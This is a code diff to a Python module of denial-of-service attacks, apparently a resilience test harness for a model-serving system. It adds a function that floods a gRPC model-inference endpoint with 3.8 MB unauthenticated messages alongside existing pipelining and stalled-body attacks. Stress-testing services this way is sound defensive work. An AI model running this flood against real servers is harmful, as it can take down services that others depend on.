@@ -4,8 +4,12 @@ from __future__ import annotations
 
 import socket
 import time
+from concurrent.futures import ThreadPoolExecutor
 from threading import Event
 from urllib.parse import urlsplit
+
+import grpc
+from kserve.protocol.grpc import grpc_predict_v2_pb2 as messages
 
 CALLERS = 4
 """Threads that run an attack at the same time."""
@@ -13,6 +17,7 @@ STUCK = 1100
 """Connections of all threads whose bodies never come."""
 PART = 64 * 1024
 """Bytes that an attack sends at once."""
+MESSAGE = 3_800_000
 PIPELINED = 1000
 """Requests that a pipeline sends at once."""
 HEAD = b"%b /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
@@ -51,6 +56,19 @@ def pipelines(url: str, campaign: str, stop: Event) -> None:  # noqa: ARG001 - a
                     connection.recv(1 << 20)
             except OSError:
                 continue
+
+
+def grpc_messages(url: str, campaign: str, stop: Event) -> None:
+    """Send gRPC messages of 3.8 MB to a port, three at a time, without a token."""
+    channel = grpc.insecure_channel(urlsplit(url).netloc, options=[("grpc.max_send_message_length", -1)])
+    infer = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
+    tensor = messages.ModelInferRequest.InferInputTensor(name="request_id", datatype="BYTES", shape=[1])
+    tensor.contents.bytes_contents.extend([b"a"] * (MESSAGE // 3))
+    message = messages.ModelInferRequest(model_name=campaign, inputs=[tensor]).SerializeToString()
+    with channel, ThreadPoolExecutor(3) as pool:
+        while not stop.is_set():
+            for call in [pool.submit(infer, message, timeout=5) for _ in range(3)]:
+                call.exception()
 
 
 def stuck_bodies(url: str, campaign: str, stop: Event) -> None:  # noqa: ARG001 - as every attack
